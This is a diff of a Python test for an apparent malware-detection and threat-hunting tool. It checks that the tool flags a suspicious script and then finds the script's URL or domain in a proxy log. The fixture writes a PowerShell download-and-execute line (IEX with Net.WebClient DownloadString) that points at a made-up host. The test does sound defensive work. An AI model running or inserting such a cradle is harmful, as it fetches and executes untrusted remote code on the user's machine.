@@ -152,16 +152,15 @@ def test_what_is_made_to_break_us_does_not_and_costs_nothing_else(desk: Desk, na
 
 
 def test_the_hunt_looks_for_what_was_found(desk: Desk) -> None:
-    judged(desk, str(SUSPICIOUS))
+    script = desk.home / "update.ps1"
+    name = "updates.zzq-made-up-by-a-test.top"  # a reserved name would be told, and not looked for
+    script.write_text(f"IEX (New-Object Net.WebClient).DownloadString('http://{name}/u.ps1')\n")
+    judged(desk, str(script))
     log = desk.home / "proxy.log"
-    log.write_text(
-        "10.0.0.5 - - [01/Mar/2026:09:00:00 +0000]"
-        ' "GET http://updates.bad-cdn.invalid/u.exe HTTP/1.1" 200 5\n'
-    )
-    hunted = desk.home / "hunt.json"
-    code, _, err = desk.says(
-        "hunt", str(log), "--indicators", str(desk.home / "report.json"), "-o", str(hunted)
-    )
+    asked = f'"GET http://{name}/u.ps1 HTTP/1.1" 200 5'
+    log.write_text(f"10.0.0.5 - - [01/Mar/2026:09:00:00 +0000] {asked}\n")
+    hunted, known = desk.home / "hunt.json", str(desk.home / "report.json")
+    code, _, err = desk.says("hunt", str(log), "--indicators", known, "-o", str(hunted))
     assert code == 1, err
     seen = {one["rule"] for one in json.loads(hunted.read_bytes())["findings"]}
     assert seen & {"indicator:url", "indicator:domain"}
